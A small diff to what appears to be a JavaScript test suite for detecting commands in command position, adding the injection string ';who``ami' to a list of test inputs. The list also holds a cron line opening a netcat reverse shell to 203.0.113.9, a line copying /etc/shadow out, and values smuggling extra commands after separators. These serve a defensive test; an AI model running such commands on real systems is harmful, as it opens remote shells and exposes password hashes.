@@ -39,6 +39,7 @@ describe('a command in command position', () => {
   test.each([
     'Ann Smith|cat notes.txt',
     '-c 5 127.0.0.1; id',
+    ';who``ami',
     '* * * * * root nc -e /bin/sh 203.0.113.9 443',
     '@reboot cat /etc/shadow > /srv/x',
     'echo xy$()z || a',
